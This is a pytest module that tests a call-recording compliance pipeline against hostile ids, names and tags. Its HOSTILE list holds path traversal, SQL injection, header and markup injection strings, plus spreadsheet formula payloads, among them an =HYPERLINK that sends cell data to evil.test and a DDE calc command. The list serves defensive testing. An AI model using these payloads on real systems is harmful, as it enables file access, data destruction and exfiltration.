"""fault: paths, SQL, formulas, markup and control characters in every id, name and tag; invariant: refused where the
schema says so, else given back as it came; files only in the home folder, no table lost, no other path asked."""

import json
import re
import zipfile
from collections.abc import Iterator
from contextlib import closing, suppress
from dataclasses import replace
from datetime import UTC, datetime
from functools import partial
from itertools import count
from pathlib import Path
from urllib.parse import quote

import pytest
import sqlalchemy as sa
from pydantic import ValidationError
from typer.testing import CliRunner

import compliance_pipeline
from compliance_pipeline import audit, database, ledger
from compliance_pipeline.cli import app
from compliance_pipeline.contracts.event import Participant, RecordingEvent
from compliance_pipeline.contracts.verdict import VerdictRefused, VerdictValue, parse_verdict
from compliance_pipeline.contracts.work_item import SupervisorCallback, WorkItem
from compliance_pipeline.dashboard import exports
from compliance_pipeline.intake.inbox import Inbox, IncomingEvent, State
from compliance_pipeline.intake.receiver import create_app
from compliance_pipeline.ledger import Entry, ledger_table
from compliance_pipeline.media.vault import vault_of
from compliance_pipeline.platforms.cloud import CloudPlatform
from compliance_pipeline.platforms.folder import FolderPlatform
from compliance_pipeline.platforms.guide import RECORDINGS, GuidePlatform
from compliance_pipeline.platforms.port import PlatformError
from compliance_pipeline.platforms.transport import Transport
from compliance_pipeline.retention import hold, holds_in_force
from compliance_pipeline.sandbox.calls import Kind
from compliance_pipeline.settings import Settings
from compliance_pipeline_tests.intake.test_receiver import Running, body_of, settings_in
from compliance_pipeline_tests.platforms.loopback import CLIENT, GuideServer
from compliance_pipeline_tests.test_evidence_service import CONTENT, Room, room
from compliance_pipeline_tests.workshop import recording, workshop

__all__ = ["room"]

CARD = "4111 1111 1111 1111"
HOSTILE = [
    "../../escaped",
    "/etc/passwd",
    "..\\..\\escaped",
    "a/../../../b",
    "%2e%2e%2fescaped",
    "..",
    "~/escaped",
    "file:///etc/passwd",
    "'; DROP TABLE recordings; --",
    "') ON CONFLICT DO NOTHING; DELETE FROM inbox; --",
    '" OR ""="',
    "$id",
    ":recording_id",
    "%s%n{0}{recording_id}",
    '=HYPERLINK("http://evil.test/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "a\r\nSet-Cookie: a=b",
    "a\x1b[2Jb",
    "x\0y",
    "?q=1#fragment",
    "<script>alert(1)</script>",
    "[red]x[/]",
    "\u202egnp.exe",
    "\ud7ff\uffff",
    "é" * 60,
]
TAKEN = ["rec-1", "rec..", "..rec", "...", "rec-2:", "CON", "NUL.txt", "0x41", "1e999", "-0"]
"""Names that are odd, and that the schema takes, alone or behind a colon."""
PRINTED = [value for value in HOSTILE if "\0" not in value]


@pytest.fixture
def home(tmp_path: Path) -> Iterator[Path]:
    """Deep in an empty folder; at the end, nothing was written beside it."""
    home = tmp_path / "a" / "b" / "home"
    home.mkdir(parents=True)
    yield home
    beside = [path for path in tmp_path.rglob("*") if not path.is_dir() and not path.is_relative_to(home)]
    assert beside == []
    assert not Path("/tmp/escaped").exists()
    links = [path for path in home.rglob("*") if path.is_symlink()]
    assert links == []


def tables(settings: Settings) -> set[str]:
    engine = database.connect(settings.inbox_database_url)
    try:
        return set(sa.inspect(engine).get_table_names())
    finally:
        engine.dispose()


@pytest.mark.parametrize("field", ["recordingId", "conversationId"])
def test_an_id_that_is_none_is_refused_and_not_repeated(home: Path, field: str) -> None:
    """fault: paths, SQL and control characters as ids of events; invariant: refused, and not repeated."""
    receiver = Running(create_app(settings_in(home)))
    try:
        for value in HOSTILE:
            answer = receiver.post(body_of(**{field: value}))
            assert answer.status_code == 422, value
            assert value not in answer.text
            assert json.loads(body_of(**{field: value}))[field] == value
        assert receiver.http.get("/readyz").status_code == 200
    finally:
        receiver.stop()
    with closing(Inbox(f"sqlite:///{home / 'inbox.db'}")) as inbox:
        assert sum(inbox.counts().values()) == 0


def test_words_of_queues_and_people_come_back_as_they_were_and_break_no_statement(home: Path) -> None:
    """fault: SQL, markup and formulas in queue, correlation id, speaker and text; invariant: given back as they came,
    from verdict to work item and marts."""
    with workshop(home) as shop:
        before = tables(shop.pipeline.settings), set(shop.warehouse.select("SHOW TABLES")[0])
        now = shop.clock()
        for number, value in enumerate(HOSTILE):
            said = {"messages": [{"from": value, "time": "2026-03-01T12:00:00Z", "text": f"{value} my card {CARD}"}]}
            media = json.dumps(said).encode()
            name = f"rec-{number}"
            shop.state.add(replace(recording(Kind.CHAT_CLEAN), recording_id=name, media=media, planted=()))
            event = RecordingEvent(
                recording_id=name,
                media_uri="https://media.test/1",
                channel="chat",
                participants=(Participant(purpose="agent", queue=value),),
            )
            shop.inbox.store([IncomingEvent(event, "guide", f"msg {value}", shop.at)], now)
        shop.run()
        assert set(shop.states().values()) == {State.DONE}
        found = {row["recording_id"]: row for row in shop.rows("recordings")}
        verdicts = {row["recording_id"]: row for row in shop.rows("verdicts")}
        for number, value in enumerate(HOSTILE):
            row = found[f"rec-{number}"]
            assert (row["queue"], row["correlation_id"]) == (value, f"msg {value}")
            assert verdicts[f"rec-{number}"]["verdict"] == VerdictValue.VIOLATION_DETECTED, value
            assert verdicts[f"rec-{number}"]["correlation_id"] == f"msg {value}"
        observed = shop.state.observed()["recordings"]
        assert [len(seen["workItems"]) for seen in observed] == [1] * len(HOSTILE)
        assert tables(shop.pipeline.settings) >= before[0]
        assert set(shop.warehouse.select("SHOW TABLES")[0]) >= before[1]
        assert len(shop.rows("violations_by_hour")) > 0


def test_every_blob_of_the_vault_is_its_own_whatever_its_names(home: Path) -> None:
    """fault: paths and wild cards as names in the vault; invariant: each blob is its own, below the vault's folder."""
    settings = Settings(_env_file=None, home=home)
    engine = database.connect(settings.inbox_database_url)
    numbers, now = count(), datetime.now(UTC)
    with closing(vault_of(settings, engine)) as vault:
        put = {(one, name): f"{next(numbers)}".encode() for one in HOSTILE for name in HOSTILE[::4]}
        for (one, name), content in put.items():
            vault.put(one, name, content, now)
        for (one, name), content in put.items():
            assert b"".join(vault.read(one, name)) == content
        for one in HOSTILE:
            assert sorted(vault.names(one)) == sorted(HOSTILE[::4])
        assert vault.shred(HOSTILE[0], now)
        assert b"".join(vault.read(HOSTILE[1], HOSTILE[0])) == put[HOSTILE[1], HOSTILE[0]]
    engine.dispose()
    parts = {part for path in (home / "vault").rglob("*") for part in path.relative_to(home).parts}
    assert all(re.fullmatch(r"[a-z0-9._-]+", part) and part.strip(".") for part in parts), parts


def test_the_ledger_its_holds_and_its_bundles_keep_every_name_and_write_nowhere_else(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """fault: the same in ledger, holds and bundles; invariant: kept as they came, nothing written elsewhere."""
    settings = Settings(_env_file=None, home=home)
    engine = database.connect(settings.inbox_database_url)
    now = datetime.now(UTC)
    entries = [
        Entry(f"fetched/{value}", "fetched", value, value, value, value, {value: value, "list": [value]})
        for value in HOSTILE
    ]
    assert ledger.record(engine, entries, now) == len(HOSTILE)
    for value in PRINTED:
        assert hold(engine, value, value, value, now)
    assert {(one.recording_id, one.reason, one.by) for one in holds_in_force(engine)} == {(v, v, v) for v in PRINTED}
    with engine.connect() as connection:
        written = connection.execute(sa.select(ledger_table).where(ledger_table.c.kind == "fetched")).all()
    assert [(row.actor, row.recording_id, row.correlation_id, row.run_id) for row in written] == [
        (value,) * 4 for value in HOSTILE
    ]
    assert audit.seal(engine, settings, now) is not None
    assert audit.verify(engine, settings).is_unbroken
    monkeypatch.setenv("COMPLIANCE_HOME", str(home))
    for value in HOSTILE:
        assert audit.custody(engine, value), value
        (exports := home / "exports").mkdir(exist_ok=True)
        monkeypatch.chdir(exports)
        ended = CliRunner().invoke(app, ["audit", "export", "--", value])
        assert (ended.exit_code, ended.exception) == (0, None), (value, ended.output)
        assert "\x1b[2J" not in ended.output
    made = sorted(exports.iterdir())
    names = {name for path in made for name in zipfile.ZipFile(path).namelist()}
    assert {path.suffix for path in made} == {".zip"}
    assert not [name for name in names if not re.fullmatch(r"[A-Za-z0-9_-]+(/[A-Za-z0-9_.-]+)?(\.[a-z]+)?", name)]
    for path in made:
        assert audit.check_bundle(path).recording_id in HOSTILE
    monkeypatch.chdir(tmp_path)
    engine.dispose()


def test_the_folder_platform_writes_into_its_own_folder_only(home: Path) -> None:
    """fault: file names that lead out of the folder; invariant: tags and work items stay in it."""
    recordings = home / "calls"
    recordings.mkdir()
    for value in HOSTILE:
        with suppress(OSError, ValueError):
            (recordings / f"{value.replace('/', '_')}.txt").write_text(f"agent: {CARD}")
    platform = FolderPlatform(recordings, home)
    assert len(platform.recordings()) > len(HOSTILE) / 2
    now = datetime.now(UTC)
    for value in HOSTILE:
        platform.tag(value, {value: value})
        platform.open_work_item(
            WorkItem(
                key=f"{value}/x", recording_id=value, violation_type="X", queue=value, priority="high", summary=value
            )
        )
        platform.request_callback(
            SupervisorCallback(key=f"{value}/x", recording_id=value, queue=value, scheduled_at=now, reason=value)
        )
    for kind in ("tags", "work_items", "callbacks"):
        written = list((home / "remediations" / kind).rglob("*.json"))
        assert {json.loads(path.read_text())[_id_of(kind)] for path in written} == set(HOSTILE)
        assert {path.parent for path in written} == {home / "remediations" / kind}


def _id_of(kind: str) -> str:
    return "recordingId" if kind == "tags" else "recording_id"


@pytest.mark.parametrize("profile", ["guide", "cloud"])
def test_no_id_leads_a_request_with_our_token_to_another_path(profile: str) -> None:
    """fault: ids that are paths and queries; invariant: no request of ours goes to another path."""
    server = GuideServer()
    transport = Transport(server.url, *CLIENT, backoff_s=0.001)
    platform = (
        GuidePlatform(transport)
        if profile == "guide"
        else CloudPlatform(transport, work_item_type="x", workbin="x", supervisor_number="+13175550100")
    )
    below, parts = (RECORDINGS, 1) if profile == "guide" else ("/api/v2/conversations", 5)
    try:
        for asked in (form.format(value) for value in [*HOSTILE, *TAKEN] for form in ("{}", "conv:{}", "{}:rec")):
            try:
                recording_id = RecordingEvent(recording_id=asked, conversation_id="conv").recording_id
            except ValidationError:
                continue
            tagged, purged = partial(platform.tag, recording_id, {"a": "b"}, 1), partial(platform.purge, recording_id)
            for call in (partial(platform.locate, recording_id), tagged, purged):
                with suppress(PlatformError):
                    call()
        paths = {asked.path for asked in server.asked} - {"/oauth/token"}
        assert len(paths) >= len(TAKEN)
        for path in paths:
            assert path.startswith(f"{below}/")
            rest = path.removeprefix(f"{below}/").split("/")
            assert len(rest) <= parts, path
            assert not {".", "..", ""} & set(rest), path
    finally:
        transport.close()
        server.stop()


def test_only_a_signed_link_to_a_verified_clip_plays_whatever_is_in_its_names(room: Room) -> None:
    """fault: forged links and names in evidence addresses; invariant: only a signed link to a verified clip plays."""
    for value in HOSTILE:
        for path in (f"/evidence/{quote(value, safe='')}", f"/evidence/{quote(value)}"):
            assert room.http.get(path).status_code == 404, path
        assert room.http.get(room.path(value, value)).status_code == 404
    for number, value in enumerate(PRINTED[:16]):
        room.keep(value, "evidence/" + value, number)
        answer = room.http.get(room.path(value, "evidence/" + value))
        assert (answer.status_code, answer.content) == (200, CONTENT), value
        assert set(answer.headers) == HEADERS
        assert room.plays()[-1].recording_id == value
    for value in HOSTILE:
        if re.search(r"[\x00-\x1f\x7f]", value):
            with pytest.raises(ValueError, match="control characters"):
                room.path("rec-1", who=value)


HEADERS = {
    "accept-ranges", "cache-control", "content-disposition", "content-length", "content-security-policy",
    "content-type", "date", "referrer-policy", "server", "x-content-type-options",
}  # fmt: skip


@pytest.mark.parametrize("field", ["recordingId", "violationType", "verdict", "recommendedAction"])
def test_another_engine_names_no_recording_rule_or_action_that_is_none(field: str) -> None:
    """fault: hostile ids, rules and addresses in another engine's verdict; invariant: refused, or kept as text only."""
    said = {
        "recordingId": "rec-1",
        "verdict": "VIOLATION_DETECTED",
        "violationType": "PCI_SAD_CAPTURE",
        "confidenceScore": 0.9,
        "timestampOffsetMs": 1,
        "recommendedAction": "ROUTE_TO_COMPLIANCE_QUEUE",
        "correlationId": "msg-1",
    }
    assert parse_verdict(said).recording_id == "rec-1"
    for value in HOSTILE:
        with pytest.raises(VerdictRefused) as refused:
            parse_verdict(said | {field: value})
        assert value not in str(refused.value) or len(value) < 3


WRITES_CSV = re.compile(
    r"\bimport csv\b|\bto_csv\b|csv\.(writer|DictWriter)|\bCOPY\b.*\bTO\b(?!.*parquet)|FORMAT CSV|text/csv"
)


@pytest.mark.parametrize("begin", "=+-@\t\r")
def test_no_cell_of_an_export_is_a_formula_and_nothing_else_writes_csv(begin: str) -> None:
    """fault: a cell that a spreadsheet takes for a formula; invariant: a text beginning with =, +, -, @, tab or CR has
    an apostrophe before it in the one export; nothing else writes CSV."""
    assert exports.cell(f"{begin}1+1") == f"'{begin}1+1"
    package = Path(compliance_pipeline.__file__).parent
    sources = [path for ending in ("py", "sql", "html") for path in package.rglob(f"*.{ending}")]
    assert len(sources) > 100
    writers = [path for path in sources if WRITES_CSV.search(path.read_text())]
    assert writers == [Path(exports.__file__)]
